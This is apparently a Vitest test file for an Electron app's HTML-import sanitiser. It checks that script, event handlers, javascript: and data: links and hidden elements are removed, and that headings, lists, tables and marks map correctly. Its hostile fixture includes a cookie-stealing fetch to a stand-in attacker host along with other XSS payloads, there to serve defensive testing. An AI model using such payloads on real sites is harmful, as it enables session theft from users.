import { JSDOM, VirtualConsole } from 'jsdom';
import { beforeAll, describe, expect, it } from 'vitest';
import { htmlToBlocks } from '../../../../../electron/services/import/htmlToBlocks';
import { type ImportedArticle, readArticle } from '../../../../../electron/services/import/readArticle';
import { expectCanonical, utf8 } from './importTestKit';

function blocksOf(html: string, baseUrl: string | null = null) {
  const { document } = new JSDOM(`<body><div id="root">${html}</div></body>`, {
    virtualConsole: new VirtualConsole(),
  }).window;
  return htmlToBlocks(document.getElementById('root')!, baseUrl);
}

const CODE_MARKERS = [
  'stealCookies',
  'evilStyle',
  'onclickCode',
  'onerrorCode',
  'javascriptHref',
  'dataHref',
  'iframeText',
  'svgScript',
  'templateText',
  'noscriptText',
  'mathText',
  'objectText',
  'canvasText',
  'buttonText',
  'textareaText',
  'selectText',
];

const HOSTILE_ARTICLE = `
  <style>.evilStyle { background: url(javascript:alert(1)) }</style>
  <script>function stealCookies() { fetch('https://evil.example/' + document.cookie) }</script>
  <p onclick="onclickCode()">The minister said the budget <a href="javascript:javascriptHref()">would balance</a> by 2030.</p>
  <p>Critics called the plan <a href="data:text/html,<script>dataHref()</script>">unrealistic</a> and
     <a href="https://example.org/analysis" onclick="onclickCode()">published an analysis</a>.</p>
  <img src="x.png" onerror="onerrorCode()" alt="onerrorCode">
  <iframe srcdoc="<p>iframeText</p>">iframeText</iframe>
  <svg><script>svgScript()</script><text>svgScript</text></svg>
  <math><mi>mathText</mi></math>
  <template><p>templateText</p></template>
  <noscript><p>noscriptText</p></noscript>
  <object data="x.swf">objectText</object>
  <canvas>canvasText</canvas>
  <form><button>buttonText</button><textarea>textareaText</textarea><select><option>selectText</option></select></form>
  <p>The central bank <em>disagreed</em>, <strong>sharply</strong>, in a <a href="mailto:press@example.org">statement</a>.</p>`;

describe('htmlToBlocks as a sanitiser', () => {
  const blocks = blocksOf(HOSTILE_ARTICLE, 'https://news.example/story');
  const text = blocks.map((block) => block.text).join('\n\n');

  it('keeps the real paragraphs', () => {
    expect(blocks.map((block) => block.text)).toEqual([
      'The minister said the budget would balance by 2030.',
      'Critics called the plan unrealistic and published an analysis.',
      'The central bank disagreed, sharply, in a statement.',
    ]);
  });

  it('lets no code, hidden text or control text through', () => {
    for (const marker of CODE_MARKERS) expect(text).not.toContain(marker);
  });

  it('keeps only http(s) and mailto links', () => {
    const links = blocks.flatMap((block) => block.marks.filter((mark) => mark.type === 'link'));
    expect(links.map((mark) => mark.href)).toEqual([
      'https://example.org/analysis',
      'mailto:press@example.org',
    ]);
  });
});

describe('readArticle on a hostile page', () => {
  const page = `<!doctype html><html lang="en"><head><title>Budget row</title>
    <script>stealCookies()</script><style>.evilStyle{}</style></head>
    <body><article>${HOSTILE_ARTICLE}${'<p>Further paragraphs of the story keep Readability convinced this is an article worth reading in full. </p>'.repeat(5)}</article></body></html>`;
  let article: ImportedArticle;
  beforeAll(async () => {
    article = await readArticle('budget.html', utf8(page));
  });

  it('keeps the story and nothing of its code', () => {
    expectCanonical(article);
    expect(article.text).toContain('The minister said the budget would balance by 2030.');
    expect(article.text).toContain('The central bank disagreed, sharply, in a statement.');
    for (const marker of CODE_MARKERS) expect(article.text).not.toContain(marker);
    for (const block of article.blocks) {
      for (const mark of block.marks)
        if (mark.href !== undefined) expect(mark.href).toMatch(/^(https?:|mailto:)/);
    }
  });
});

describe('htmlToBlocks block mapping', () => {
  it('collapses ASCII whitespace but keeps no-break spaces', () => {
    const [block] = blocksOf('<p>\n  One \t two\u00a0\u00a0three\r\n  four  </p>');
    expect(block?.text).toBe('One two\u00a0\u00a0three four');
  });

  it('maps headings, quotes, lists, preformatted text and tables', () => {
    const blocks = blocksOf(`
      <h2>Section</h2>
      <blockquote><p>First quoted.</p><p>Second quoted.</p></blockquote>
      <ol start="4"><li>Four<ul><li>Nested</li></ul></li><li><p>Five</p><p>More about five</p></li></ol>
      <pre>
  indented code
    deeper
</pre>
      <table><tr><th>Name</th><th></th><th>Votes</th></tr><tr><td><b>Ann</b></td><td>x</td><td>12</td></tr></table>
      <figure><img src="a.png"><figcaption>A caption.</figcaption></figure>
      <div>Loose text in a div <span>with a span</span><p>then a paragraph</p>and a tail.</div>`);
    expect(
      blocks.map(({ type, text, level, ordered, number }) => ({ type, text, level, ordered, number })),
    ).toEqual(
      [
        { type: 'heading', text: 'Section', level: 2 },
        { type: 'blockquote', text: 'First quoted.' },
        { type: 'blockquote', text: 'Second quoted.' },
        { type: 'listItem', text: 'Four', ordered: true, number: 4 },
        { type: 'listItem', text: 'Nested', ordered: false },
        { type: 'listItem', text: 'Five', ordered: true, number: 5 },
        { type: 'paragraph', text: 'More about five' },
        { type: 'preformatted', text: '  indented code\n    deeper' },
        { type: 'paragraph', text: 'Name | Votes' },
        { type: 'paragraph', text: 'Ann | x | 12' },
        { type: 'paragraph', text: 'A caption.' },
        { type: 'paragraph', text: 'Loose text in a div with a span' },
        { type: 'paragraph', text: 'then a paragraph' },
        { type: 'paragraph', text: 'and a tail.' },
      ].map((block) => Object.fromEntries(Object.entries(block).filter(([, value]) => value !== undefined))),
    );
    expect(blocks[9]?.marks).toEqual([{ type: 'strong', start: 0, end: 3 }]);
  });

  it('turns <br> into a line break and two of them into a new paragraph', () => {
    const blocks = blocksOf('<p>Line one <br> line two<br><br>Next paragraph</p>');
    expect(blocks.map((block) => block.text)).toEqual(['Line one\nline two', 'Next paragraph']);
  });

  it('places marks on the trimmed text, merging neighbours and dropping empty ones', () => {
    const [block] = blocksOf(
      '<p>  <em> Lead</em> text <b>bo</b><strong>ld</strong> <i> </i><a href="/rel">relative</a> <a href="https://a.example/x">li</a><a href="https://a.example/x">nk</a></p>',
      'https://a.example/story',
    );
    expect(block?.text).toBe('Lead text bold relative link');
    expect(block?.marks).toEqual([
      { type: 'emphasis', start: 0, end: 4 },
      { type: 'strong', start: 10, end: 14 },
      { type: 'link', start: 15, end: 23, href: 'https://a.example/rel' },
      { type: 'link', start: 24, end: 28, href: 'https://a.example/x' },
    ]);
  });

  it('drops relative links when the page address is unknown, keeping their text', () => {
    const [block] = blocksOf('<p>See <a href="/rel">this</a>.</p>');
    expect(block).toEqual({ type: 'paragraph', text: 'See this.', marks: [] });
  });

  it('carries a mark that spans several blocks into each of them', () => {
    const blocks = blocksOf('<a href="https://a.example/"><p>One</p><p>Two</p></a><p>Three</p>');
    expect(blocks.map((block) => block.marks)).toEqual([
      [{ type: 'link', start: 0, end: 3, href: 'https://a.example/' }],
      [{ type: 'link', start: 0, end: 3, href: 'https://a.example/' }],
      [],
    ]);
  });
});
